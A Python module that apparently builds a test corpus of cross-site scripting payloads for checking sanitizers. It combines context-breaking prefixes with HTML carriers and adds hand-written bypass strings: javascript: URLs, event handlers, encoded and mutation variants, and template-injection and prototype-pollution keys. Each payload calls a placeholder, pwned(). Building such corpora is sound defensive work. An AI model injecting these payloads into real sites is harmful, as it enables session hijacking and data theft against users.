"""Texts that would call `pwned()` wherever they became markup, an address or a script. Made from a small grammar."""

from __future__ import annotations

from itertools import product

CALL = "pwned()"
BREAKS = ("", '">', "'>", "</p></li>", "--></style></script>", "]]>", "</textarea></title>")
CARRIERS = (
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<details open ontoggle={call}><summary>x</summary></details>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}></audio>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src=javascript:parent.{call}></iframe>",
    "<object data=javascript:{call}></object>",
    "<embed src=javascript:{call}>",
    "<input autofocus onfocus={call}>",
    "<a href=javascript:{call}>x</a>",
    "<form action=javascript:{call}><button autofocus>x</button></form>",
    "<body onload={call}>",
    "<style>@import 'javascript:{call}'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href=javascript:{call}//>",
    "<link rel=stylesheet href=data:text/css,x onerror={call}>",
    "<marquee onstart={call}>x</marquee>",
    "<math><mtext><img src=x onerror={call}></mtext></math>",
    "<img src=x:x style='animation:x 1s' onanimationstart={call} onerror={call}>",
)
DISGUISES = (str, str.upper)
BY_HAND = (
    "javascript:pwned()", "JaVaScRiPt:pwned()", "java\tscript:pwned()", "data:text/html,<script>pwned()</script>",
    'https://example.org/" onmouseover="pwned()', "https://example.org/' onfocus='pwned()' autofocus='",
    "{{constructor.constructor('pwned()')()}}", "${pwned()}", "{@html '<img src=x onerror=pwned()>'}", "<%= pwned() %>",
    "&lt;script&gt;pwned()&lt;/script&gt;", "&#60;img src=x onerror=pwned()&#62;", "\\u003cscript\\u003epwned()",
    "%3Cscript%3Epwned()%3C/script%3E", "<scr<script>ipt>pwned()</scr</script>ipt>", "<<img src=x onerror=pwned()>",
    "<img/src=x/onerror=pwned()>", "<svg/onload=pwned()//", "<img src=`x`onerror=pwned()>", "<x onclick=pwned()>x</x>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>", "<svg><style><img src=x onerror=pwned()></style>",
    "<math><mi//xlink:href='data:x,<script>pwned()</script>'>", "<template><img src=x onerror=pwned()></template>",
    "<form id=x></form><button form=x formaction=javascript:pwned()>x", "\u202e<img src=x onerror=pwned()>",
    "\u200b<script>pwned()</script>", "<!--><img src=x onerror=pwned()>-->", "<?xml?><img src=x onerror=pwned()>",
    "__proto__", "constructor", "toString", "onerror=pwned()", "*/pwned()/*", "';pwned();//", '";pwned();//',
    "</script>",
    "[x](javascript:pwned())", '![x](x"onerror="pwned())', "<javascript:pwned()>", "tel:+41<img src=x onerror=pwned()>",
)  # fmt: skip


def payloads() -> list[str]:
    """Each once; the capital ones keep their call, which is case-sensitive."""
    made = [
        start + disguise(carrier.replace("{call}", "\0")).replace("\0", CALL)
        for start, carrier, disguise in product(BREAKS, CARRIERS, DISGUISES)
    ]
    return list(dict.fromkeys([*BY_HAND, *made]))
